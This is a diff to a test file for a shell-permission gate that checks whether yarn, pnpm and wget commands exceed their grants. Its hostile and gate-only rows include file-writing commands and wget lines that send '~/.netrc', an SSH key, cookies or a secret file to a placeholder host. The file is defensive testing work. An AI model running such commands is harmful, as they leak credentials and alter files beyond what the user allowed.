@@ -1,4 +1,6 @@
-import { spawnSync } from 'node:child_process';
+import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
+import { once } from 'node:events';
+import { symlinkSync } from 'node:fs';
 import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
@@ -19,6 +21,11 @@ import { bash, judge } from '../helpers.js';
 let shell: ShellParser;
 let ws: string;
 let outside: string;
+/** `http://127.0.0.1:<port>/remote.txt` of a server run for wget, which reads no `file:` URL. */
+let served: string;
+let server: ChildProcess | undefined;
+/** Where `yarn` names Debian's `yarnpkg`. */
+let shims: string;
 
 /** What a hostile line does when bash runs it. */
 type Effect = { readonly creates: string } | { readonly removes: string } | { readonly changes: string };
@@ -34,6 +41,12 @@ interface Row {
   readonly gateOnly?: readonly string[];
   readonly env?: Readonly<Record<string, string>>;
 }
+
+/**
+ * Debian's yarnpkg runs under the node it is given, and finds its own modules in /usr/share/nodejs
+ * (Debian's node looks there by itself; another node is told with NODE_PATH).
+ */
+const YARN_ENV = { PATH: 'SHIMS', NODE_PATH: '/usr/share/nodejs' };
 
 function rows(): Row[] {
   const url = 'URL';
@@ -203,20 +216,27 @@ function rows(): Row[] {
       gateOnly: ['npm test -- --config=/etc/x.js', 'npm test -- -c ../x.js', 'npm test -- --reporter ~/x'],
     },
     {
-      row: 'pnpm and yarn',
-      grants: ['Bash(pnpm:*)', 'Bash(yarn:*)', 'Bash(pnpm run:*)'],
+      row: 'yarn (Debian yarnpkg 1.x)',
+      grants: ['Bash(yarn:*)'],
+      hostile: [
+        ['yarn build', RUNS],
+        ['yarn run build', RUNS],
+        ['yarn -s run build', RUNS],
+        ['yarn test', { creates: 'TESTED' }],
+        ['yarn exec touch MARK', RUNS],
+        ['yarn --cwd sub run build', RUNS],
+      ],
+      positive: ['yarn help', 'yarn config get loglevel', 'yarn licenses list'],
+      gateOnly: ['yarn', 'yarn dlx x', 'yarn --cwd /x list', 'yarn --version'],
+      env: YARN_ENV,
+    },
+    {
+      // pnpm is not packaged by Debian (bookworm) and is not installed here: the gate alone is checked.
+      row: 'pnpm (not installable from Debian: gate only)',
+      grants: ['Bash(pnpm:*)', 'Bash(pnpm run:*)'],
       hostile: [],
       positive: [],
-      gateOnly: [
-        'pnpm test',
-        'pnpm build',
-        'pnpm run build',
-        'pnpm dlx x',
-        'pnpm -C sub ls',
-        'yarn build',
-        'yarn dlx x',
-        'yarn --cwd /x list',
-      ],
+      gateOnly: ['pnpm test', 'pnpm build', 'pnpm run build', 'pnpm dlx x', 'pnpm -C sub ls', 'pnpm exec x'],
     },
     {
       row: 'xargs',
@@ -263,16 +283,32 @@ function rows(): Row[] {
     {
       row: 'wget',
       grants: ['Bash(wget:*)'],
-      hostile: [],
-      positive: [],
+      hostile: [
+        ['wget -q -O written.txt SERVED', WRITES],
+        ['wget -q --output-document=written.txt SERVED', WRITES],
+        ['wget -qOwritten.txt SERVED', WRITES],
+        ['wget -q --output-doc written.txt SERVED', WRITES],
+        ['wget -q -P sub SERVED', { creates: 'sub/remote.txt' }],
+        ['wget -o written.txt SERVED', WRITES],
+        ['wget -q -e output_document=written.txt SERVED', WRITES],
+        ['wget -q --config=wget.rc SERVED', WRITES],
+      ],
+      positive: [
+        'wget -q -O - SERVED',
+        'wget -qO- SERVED',
+        'wget --version',
+        'wget -q --spider SERVED',
+        'wget -q SERVED',
+      ],
       gateOnly: [
-        'wget -O x u',
-        'wget --output-document=x u',
-        'wget -o log u',
+        'wget -a log u',
         'wget -P /tmp u',
-        'wget -e robots=off u',
         'wget --use-askpass=x u',
         'wget -qO/tmp/x u',
+        'wget --post-file=OUTSIDE/secret u',
+        'wget --body-file=~/.netrc --method=PUT u',
+        'wget -i ~/.ssh/id_rsa',
+        'wget --load-cookies ../c.txt u',
       ],
     },
     {
@@ -338,7 +374,9 @@ function place(text: string): string {
   return text
     .replaceAll('OUTSIDE', outside)
     .replaceAll('PROG', join(ws, 'prog.sh'))
-    .replaceAll('URL', `file://${ws}/src/remote.txt`);
+    .replaceAll('SHIMS', `${shims}:${process.env.PATH ?? ''}`)
+    .replaceAll('URL', `file://${ws}/src/remote.txt`)
+    .replaceAll('SERVED', served);
 }
 
 function setUp(): void {
@@ -380,6 +418,11 @@ function setUp(): void {
   file('Makefile', 'all:\n\t@echo ok\n');
   file('other.mk', 'all:\n\t@touch MARK\n');
   file('sub/Makefile', 'all:\n\t@touch ../MARK\n');
+  file('wget.rc', 'output_document = written.txt\n');
+  file(
+    'sub/package.json',
+    JSON.stringify({ name: 's', version: '1.0.0', scripts: { build: 'touch ../MARK' } }),
+  );
   file('curl.cfg', `output = "written.txt"\nurl = "file://${ws}/src/remote.txt"\n`);
   file(
     'package.json',
@@ -413,13 +456,39 @@ function happened(effect: Effect): boolean {
   return readFileSync(join(ws, effect.changes), 'utf8') !== 'a\nb\n';
 }
 
+/** Serves `dir` over HTTP from a child process (bash runs synchronously here); the port it took. */
+async function serve(dir: string): Promise<number> {
+  const script = [
+    'import functools, http.server, sys',
+    'class Quiet(http.server.SimpleHTTPRequestHandler):',
+    '    def log_message(self, *args): pass',
+    'handler = functools.partial(Quiet, directory=sys.argv[1])',
+    "httpd = http.server.ThreadingHTTPServer(('127.0.0.1', 0), handler)",
+    'print(httpd.server_address[1], flush=True)',
+    'httpd.serve_forever()',
+  ].join('\n');
+  server = spawn('python3', ['-c', script, dir], { stdio: ['ignore', 'pipe', 'inherit'] });
+  const [chunk] = (await once(server.stdout!, 'data')) as [Buffer];
+  return Number(chunk.toString('utf8').trim());
+}
+
 beforeAll(async () => {
   shell = await loadShellParser();
   const base = mkdtempSync(join(tmpdir(), 'option-table-'));
   ws = join(base, 'ws');
   outside = join(base, 'outside');
+  shims = join(base, 'shims');
+  mkdirSync(shims);
+  symlinkSync('/usr/bin/yarnpkg', join(shims, 'yarn'));
+  const www = join(base, 'www');
+  mkdirSync(www);
+  writeFileSync(join(www, 'remote.txt'), 'remote\n');
+  served = `http://127.0.0.1:${await serve(www)}/remote.txt`;
 });
-afterAll(() => rmSync(join(ws, '..'), { recursive: true, force: true }));
+afterAll(() => {
+  server?.kill();
+  rmSync(join(ws, '..'), { recursive: true, force: true });
+});
 
 describe.each(rows().map((r) => [r.row, r] as const))('the %s row', (_name, row) => {
   beforeEach(setUp);
@@ -445,7 +514,7 @@ describe.each(rows().map((r) => [r.row, r] as const))('the %s row', (_name, row)
   if (row.positive.length) {
     it.each(row.positive)('%j is allowed by the grant and runs (positive control)', (line) => {
       expect(verdict(line)).toBe('allow');
-      const result = bashIn(line);
+      const result = bashIn(line, row.env);
       expect(result.status, result.stderr).toBe(0);
       expect(existsSync(join(ws, 'MARK'))).toBe(false);
     });
